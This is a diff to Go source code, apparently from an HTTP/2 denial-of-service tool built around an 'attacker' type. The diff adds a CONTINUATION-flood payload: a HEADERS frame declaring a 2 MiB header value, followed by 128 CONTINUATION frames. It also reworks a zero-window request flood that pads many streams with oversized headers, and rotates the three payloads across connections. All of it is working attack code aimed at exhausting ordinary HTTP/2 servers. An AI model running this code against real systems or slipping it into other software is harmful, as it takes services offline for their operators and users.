@@ -155,31 +155,45 @@ func streams(ctx context.Context, a *attacker) {
 		}
 		defer c.end()
 		a.opened.Add(1)
-		if _, err := c.Write(h2Requests(i%2 == 1)); err == nil {
+		if _, err := c.Write([][]byte{h2Requests(0x82, 5), h2Requests(0x83, 4), h2Endless()}[i%3]); err == nil {
 			untilClosed(c)
 		}
 	})
 }
 
-// h2Requests returns the preface, settings with a window of 0, and requests:
-// GET, or POST with a body to come (RFC 9113, RFC 7541).
-func h2Requests(post bool) []byte {
-	b := bytes.NewBufferString("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")
-	h2Frame(b, 4, 0, 0, []byte{0, 4, 0, 0, 0, 0}) // SETTINGS_INITIAL_WINDOW_SIZE
-	block := []byte{0x87, 0x84, 0x01, 1, 'x'}     // https, /, :authority x
+// h2Requests returns what opens a connection with windows of 0, and requests
+// (RFC 9113, RFC 7541). The method is a static index of HPACK: GET, or POST
+// whose body is to come. flags are those of HEADERS.
+func h2Requests(method, flags byte) []byte {
+	b := h2Preface()
+	block := []byte{method, 0x87, 0x84, 0x01, 1, 'x'} // method, https, /, :authority x
 	block = append(block, 0x00, 5)
 	block = append(block, "x-pad"...)
 	block = append(block, 0x7f, (h2Header-127)&0x7f|0x80, (h2Header-127)>>7)
 	block = append(block, strings.Repeat("y", h2Header)...)
-	method, flags := byte(0x82), byte(5) // GET, END_HEADERS and END_STREAM
-	if post {
-		method, flags = 0x83, 4
-	}
-	block = append([]byte{method}, block...)
 	for i := range h2Streams {
 		h2Frame(b, 1, flags, 2*i+1, block)
 	}
 	return b.Bytes()
+}
+
+// h2Endless returns a request whose headers go on and on.
+func h2Endless() []byte {
+	b := h2Preface()
+	block := append([]byte{0x82, 0x87, 0x84, 0x01, 1, 'x', 0x00, 5}, "x-pad"...)
+	block = append(append(block, 0x7f, 0x80, 0x80, 0x7f), strings.Repeat("y", 8<<10)...) // a value of 2 MiB
+	h2Frame(b, 1, 0, 1, block)
+	for range 128 {
+		h2Frame(b, 9, 0, 1, block[:8<<10]) // CONTINUATION
+	}
+	return b.Bytes()
+}
+
+// h2Preface returns the beginning of a connection that takes no answers.
+func h2Preface() *bytes.Buffer {
+	b := bytes.NewBufferString("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")
+	h2Frame(b, 4, 0, 0, []byte{0, 4, 0, 0, 0, 0}) // SETTINGS_INITIAL_WINDOW_SIZE
+	return b
 }
 
 func h2Frame(b *bytes.Buffer, kind, flags byte, stream int, payload []byte) {
